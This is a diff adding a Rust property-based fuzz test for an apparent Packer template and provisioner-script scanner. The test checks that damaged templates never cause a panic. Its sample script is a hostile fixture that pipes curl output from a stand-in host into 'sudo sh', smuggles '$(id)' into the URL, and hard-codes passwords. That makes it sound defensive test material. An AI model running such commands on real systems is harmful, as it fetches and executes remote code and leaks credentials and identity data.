@@ -155,3 +155,26 @@ fn hostile_templates_end() {
     let _ = Given::hcl(&"[".repeat(50_000)).found_with(None);
     let _ = Given::json(&"{\"builders\":[".repeat(50_000)).found_with(None);
 }
+
+proptest::proptest! {
+    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(96))]
+
+    /// Templates and scripts with pieces missing, doubled and swapped are looked at without a panic.
+    #[test]
+    fn damaged_templates_do_no_harm(cuts in proptest::collection::vec((0..1200_usize, 0..40_usize, "[\"'{}$%\\\\<(|ä\u{fffc}\n#=:]{0,3}"), 1..6)) {
+        let damage = |text: &str| {
+            let mut characters: Vec<char> = text.chars().collect();
+            for (at, length, new) in &cuts {
+                let at = at % (characters.len() + 1);
+                let end = (at + length).min(characters.len());
+                characters.splice(at..end, new.chars());
+            }
+            characters.into_iter().collect::<String>()
+        };
+        let script = "#!/bin/bash\ncat > x <<EOF\nDB_PASSWORD=hunter2 $X\nEOF\ncurl -u a:b123 \"https://x.example/$(id)\" | sudo sh -c 'apt-get install x' && mysql -pabcdef\n";
+        let _ = build("provisioner \"shell\" {\n    script = \"x.sh\"\n  }").and("x.sh", &damage(script)).found_with(None);
+        let _ = Given::hcl(&damage(GOOD)).found_with(None);
+        let _ = Given::json(&damage(GOOD_JSON)).found_with(None);
+        let _ = Given::file("t.pkr.json", &damage(GOOD_JSON)).found_with(None);
+    }
+}
